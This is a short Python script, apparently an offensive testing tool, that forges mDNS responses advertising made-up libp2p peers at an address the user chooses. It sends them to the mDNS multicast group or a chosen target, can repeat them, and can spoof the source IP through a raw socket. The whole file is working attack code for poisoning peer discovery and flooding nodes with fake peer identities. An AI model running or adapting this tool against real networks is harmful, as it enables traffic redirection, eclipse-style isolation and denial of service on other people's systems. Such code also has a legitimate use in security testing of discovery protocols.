"""A hostile packet of mDNS: names a peer at an address of one's choice.

    mdns.py NAMED [--to IP] [--from IP] [--times N]

NAMED: the multiaddr that the packet names. --to: where it goes, by default mDNS' own multicast group. --from: a
source that is not one's own (a raw socket; needs root). Each packet names a peer that was never named before.
"""

import os
import socket
import struct
import sys

GROUP, PORT = "224.0.0.251", 5353
DIGITS = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def base58(data):
    number, text = int.from_bytes(data, "big"), ""
    while number:
        number, digit = divmod(number, 58)
        text = DIGITS[digit] + text
    return DIGITS[0] * (len(data) - len(data.lstrip(b"\0"))) + text


def name(text):
    parts = [part.encode() for part in text.split(".")]
    return b"".join(bytes([len(part)]) + part for part in parts) + b"\0"


def record(of, kind, data):
    # In the Internet's class, for six minutes.
    return name(of) + struct.pack(">HHIH", kind, 1, 360, len(data)) + data


def answer(named):
    # An identity multihash of an Ed25519 key, which a peer id is.
    peer = base58(b"\x00\x24\x08\x01\x12\x20" + os.urandom(32))
    instance = os.urandom(16).hex() + "._p2p._udp.local"
    text = f"dnsaddr={named}/p2p/{peer}".encode()
    head = struct.pack(">HHHHHH", 0, 0x8400, 0, 1, 0, 1)
    pointer = record("_p2p._udp.local", 12, name(instance))
    return head + pointer + record(instance, 16, bytes([len(text)]) + text)


def from_elsewhere(data, source, target):
    udp = struct.pack(">HHHH", PORT, PORT, 8 + len(data), 0) + data
    # The kernel fills in length, identification and checksum.
    ends = (socket.inet_aton(source), socket.inet_aton(target))
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 255, socket.IPPROTO_UDP, 0, *ends)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.sendto(ip + udp, (target, 0))


def main(args):
    named, options = args[0], dict(zip(args[1::2], args[2::2]))
    target = options.get("--to", GROUP)
    plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(int(options.get("--times", 1))):
        data = answer(named)
        if "--from" in options:
            from_elsewhere(data, options["--from"], target)
        else:
            plain.sendto(data, (target, PORT))


main(sys.argv[1:])
